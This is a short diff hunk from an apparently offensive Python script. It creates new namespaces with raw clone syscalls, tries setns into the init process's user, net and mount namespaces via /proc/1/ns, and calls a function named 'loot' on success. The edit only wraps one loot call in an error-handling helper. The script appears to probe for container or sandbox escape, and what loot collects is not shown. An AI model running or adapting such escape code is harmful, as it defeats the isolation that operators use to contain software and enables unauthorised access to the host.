@@ -383,7 +383,7 @@ for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000):  # user, mount, net, 
     os.wait()
     child = libc.syscall(56 if os.uname().machine == 'x86_64' else 220, flag | 17, 0, 0, 0, 0)
     if child == 0:
-        loot('done')
+        attempt(lambda: loot('done'))
         os._exit(0)
 for kind in ('user', 'net', 'mnt'):
     attempt(lambda: libc.setns(os.open(f'/proc/1/ns/{kind}', 0), 0) == 0 and loot('done'))
